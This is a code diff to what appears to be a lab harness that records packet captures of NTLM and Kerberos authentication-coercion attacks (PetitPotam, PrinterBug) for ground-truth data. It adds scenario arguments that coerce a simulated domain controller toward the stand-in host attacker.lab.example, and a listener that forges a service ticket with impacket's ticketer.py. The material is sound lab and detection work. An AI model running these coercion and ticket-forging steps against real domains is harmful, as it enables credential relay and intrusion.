@@ -83,6 +83,11 @@ SCENARIOS = [
            "(\\\\10.0.0.66@8080\\x\\y), then DC01$ authenticates back with HTTP NTLM (PROPFIND)",
            "--technique", "efsr", "--opnums", "4", "--dialect", "2.1", "--path", "\\\\10.0.0.66@8080\\x\\y",
            server="impacket", back_auth="http"),
+    attack("efsr-backauth-kerberos", "PetitPotam EfsRpcEncryptFileSrv naming \\\\attacker.lab.example\\share\\f, "
+           "SMB 2.1, then DC01 authenticates back with Kerberos: an AP-REQ for cifs/attacker.lab.example in SMB "
+           "SESSION_SETUP to 10.0.0.66 (impacket smbclient.py with a ticket from ticketer.py)",
+           "--technique", "efsr", "--opnums", "4", "--dialect", "2.1", "--path", "\\\\attacker.lab.example\\share\\f",
+           server="impacket", back_auth="kerberos"),
     attack("rprn-smb21", "PrinterBug: RpcOpenPrinter(\\\\10.0.0.10), then RpcRemoteFindFirstPrinterChangeNotificationEx "
            "(65) and ...Notification (62) naming \\\\10.0.0.66, SMB 2.1, Samba spoolss",
            "--technique", "rprn", "--opnums", "65,62", "--dialect", "2.1"),
@@ -138,6 +143,32 @@ SCENARIOS = [
 ]
 
 
+KERBEROS_LISTENER = "attacker.lab.example"     # the listener's DNS name: the SPN cifs/<it>
+KERBEROS_REALM = "LAB.EXAMPLE"
+
+
+class KerberosSmbListener(SmbListener):
+    """The coerced DC authenticating back with Kerberos: impacket's smbclient.py in "dc" with a
+    service ticket for cifs/attacker.lab.example (made offline by impacket's ticketer.py: the lab
+    has no KDC), so its SESSION_SETUP carries a real AP-REQ. The listener, impacket smbserver,
+    cannot decrypt it; the request is what counts."""
+
+    def __init__(self, work: Path):
+        super().__init__(work)
+        bin_dir = Path(sys.executable).parent
+        self.ccache = work / "DC01$.ccache"
+        subprocess.run([sys.executable, str(bin_dir / "ticketer.py"), "-nthash", "31d6cfe0d16ae931b73c59d7e0c089c0",
+                        "-domain-sid", "S-1-5-21-1-2-3", "-domain", KERBEROS_REALM,
+                        "-spn", f"cifs/{KERBEROS_LISTENER}", "DC01$"], cwd=work, check=True, capture_output=True)
+        self.smbclient = bin_dir / "smbclient.py"
+
+    def authenticate_back(self) -> None:
+        subprocess.run(in_ns("dc", sys.executable, str(self.smbclient), "-k", "-no-pass", "-target-ip", ATTACKER_V4,
+                             f"{KERBEROS_REALM}/DC01$@{KERBEROS_LISTENER}"),
+                       input="exit\n", text=True, capture_output=True, timeout=30,
+                       env={**os.environ, "KRB5CCNAME": str(self.ccache)})
+
+
 class FamilyRpcServer:
     """family_rpc_server.py in "dc" (in place of Samba)."""
 
@@ -179,7 +210,8 @@ def run(sc: FamilyScenario, work: Path, out: Path, samba: Samba) -> dict:
     else:
         samba.stop()
         rpc_server = FamilyRpcServer(work)
-    back_auth = {"smb": SmbListener, "http": HttpListener}[sc.back_auth](work) if sc.back_auth else None
+    back_auth = {"smb": SmbListener, "http": HttpListener, "kerberos": KerberosSmbListener}[sc.back_auth](work) \
+        if sc.back_auth else None
     capture = Capture("dc", "eth0", out / f"{sc.name}.pcap", "tcp")
     calls: list[dict] = []
     try:
@@ -209,7 +241,9 @@ def run(sc: FamilyScenario, work: Path, out: Path, samba: Samba) -> dict:
                                      "frame")} for c in groundtruth.locate(pcap, calls)] if calls else [],
         "observed_requests": groundtruth.observed_calls(pcap) if sc.rpcclient else [],
     }
-    if sc.back_auth:
+    if sc.back_auth == "kerberos":
+        entry["back_auth"] = groundtruth.kerberos_ap_requests(pcap)
+    elif sc.back_auth:
         entry["back_auth"] = [a for a in groundtruth.ntlm_authentications(pcap)
                               if a["client_ip"] == DC_V4 and a["server_ip"] == ATTACKER_V4]
     return entry
